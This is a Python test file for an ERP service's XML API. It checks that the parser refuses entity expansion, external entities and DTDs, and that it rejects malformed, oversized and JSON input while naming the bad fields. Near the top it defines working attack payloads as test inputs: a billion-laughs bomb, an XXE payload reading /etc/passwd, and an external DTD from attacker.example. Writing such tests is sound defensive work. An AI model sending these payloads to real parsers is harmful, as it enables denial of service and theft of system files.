"""The ERP reads XML defensively: no DTDs or entities, no malformed or oversized documents,
and every wrong field named in an XML fault."""

from __future__ import annotations

import time

import httpx

from erp.native import RECORDS, fault_code, make_customer, order_xml, parse, send

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<customer><isPerson>false</isPerson><companyName>&lol9;</companyName></customer>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE customer [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<customer><isPerson>false</isPerson><companyName>&secret;</companyName></customer>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE customer SYSTEM "http://attacker.example/evil.dtd">
<customer><isPerson>false</isPerson><companyName>X</companyName></customer>"""


async def test_entity_expansion_is_refused_not_expanded(erp: httpx.AsyncClient) -> None:
    started = time.monotonic()
    response = await send(erp, "POST", "/customer", BILLION_LAUGHS)
    assert time.monotonic() - started < 2
    assert response.status_code == 400
    assert fault_code(response) == "INVALID_XML"
    assert "not allowed" in (parse(response).findtext("message") or "")
    listing = parse(await erp.get(f"{RECORDS}/customer"))
    assert listing.findtext("totalRecords") == "0"


async def test_external_entities_and_dtds_are_refused(erp: httpx.AsyncClient) -> None:
    for document in (EXTERNAL_ENTITY, EXTERNAL_DTD):
        response = await send(erp, "POST", "/customer", document)
        assert response.status_code == 400
        assert fault_code(response) == "INVALID_XML"
        assert "root:" not in response.text


async def test_malformed_documents_are_xml_faults(erp: httpx.AsyncClient) -> None:
    for document in (
        "<customer><companyName>X</customer>",
        "not xml at all",
        "",
        "<customer>",
        '{"companyName": "json?"}',
    ):
        response = await send(erp, "POST", "/customer", document)
        assert response.status_code == 400, document
        assert fault_code(response) == "INVALID_XML"


async def test_the_document_must_be_the_right_record(erp: httpx.AsyncClient) -> None:
    response = await send(erp, "POST", "/customer", "<vendor><companyName>X</companyName></vendor>")
    assert response.status_code == 400
    assert "<customer>" in (parse(response).findtext("message") or "")


async def test_oversized_documents_are_refused(erp: httpx.AsyncClient) -> None:
    huge = "<customer><companyName>" + "x" * 600_000 + "</companyName></customer>"
    response = await send(erp, "POST", "/customer", huge)
    assert response.status_code == 413
    assert fault_code(response) == "REQUEST_TOO_LARGE"


async def test_json_is_not_accepted(erp: httpx.AsyncClient) -> None:
    response = await erp.post(f"{RECORDS}/customer", json={"companyName": "X"})
    assert response.status_code == 415
    assert fault_code(response) == "UNSUPPORTED_MEDIA_TYPE"


async def test_wrong_element_types_name_the_field(erp: httpx.AsyncClient) -> None:
    await make_customer(erp)
    cases = {
        order_xml(lines=(("ELE-1", "two", "1.00"),)): "salesOrder.itemList.item[0].quantity",
        order_xml(lines=(("ELE-1", "0", "1.00"),)): "salesOrder.itemList.item[0].quantity",
        order_xml(
            lines=(("ELE-1", "1", "1.00"), ("ELE-2", "1", "abc"))
        ): "salesOrder.itemList.item[1].rate",
        order_xml(lines=(("ELE-1", "1", "1.00001"),)): "salesOrder.itemList.item[0].rate",
        order_xml(lines=(("ELE-1", "1", "-5"),)): "salesOrder.itemList.item[0].rate",
        order_xml(lines=(("ELE-1", "1", "NaN"),)): "salesOrder.itemList.item[0].rate",
        order_xml(lines=(("ELE-1", "1", "1e300"),)): "salesOrder.itemList.item[0].rate",
        order_xml(
            lines=(("ELE-1", "99999999999999", "1"),)
        ): "salesOrder.itemList.item[0].quantity",
        order_xml(lines=(("<x>nested</x>", "1", "1"),)): "salesOrder.itemList.item[0].item",
        order_xml(lines=(("bad sku!", "1", "1"),)): "salesOrder.itemList.item[0].item",
        order_xml(extra="<tranDate>yesterday</tranDate>"): "salesOrder.tranDate",
        order_xml(extra="<currency>usd</currency>"): "salesOrder.currency",
        order_xml(extra="<status>G</status>"): "salesOrder.status",
        order_xml(lines=(("ELE-1", "1000000", "999999999.99"),) * 3): "salesOrder.total",
    }
    for document, field in cases.items():
        response = await send(erp, "POST", "/salesOrder", document)
        assert response.status_code == 400, (document, response.text)
        assert fault_code(response) == "INVALID_FLD_VALUE", response.text
        assert parse(response).findtext("field") == field, response.text


async def test_missing_required_elements_are_named(erp: httpx.AsyncClient) -> None:
    await make_customer(erp)
    no_lines = await send(erp, "POST", "/salesOrder", order_xml(lines=()))
    assert fault_code(no_lines) == "REQD_FLD_MISSING"
    assert parse(no_lines).findtext("field") == "salesOrder.itemList"

    no_rate = await send(
        erp,
        "POST",
        "/salesOrder",
        '<salesOrder><entity externalId="C-1"/><itemList><item><item>A-1</item>'
        "<quantity>1</quantity></item></itemList></salesOrder>",
    )
    assert fault_code(no_rate) == "REQD_FLD_MISSING"
    assert parse(no_rate).findtext("field") == "salesOrder.itemList.item[0].rate"

    no_entity = await send(
        erp,
        "POST",
        "/salesOrder",
        "<salesOrder><itemList><item><item>A-1</item><quantity>1</quantity>"
        "<rate>1</rate></item></itemList></salesOrder>",
    )
    assert fault_code(no_entity) == "INVALID_KEY_OR_REF"
    assert parse(no_entity).findtext("field") == "salesOrder.entity"


async def test_unknown_routes_and_methods_answer_in_xml(erp: httpx.AsyncClient) -> None:
    missing = await erp.get(f"{RECORDS}/vendor/1")
    assert missing.status_code == 404
    assert fault_code(missing) == "INVALID_URL"
    wrong_method = await erp.delete(f"{RECORDS}/salesOrder")
    assert wrong_method.status_code == 405
    assert fault_code(wrong_method) == "INVALID_REQUEST"
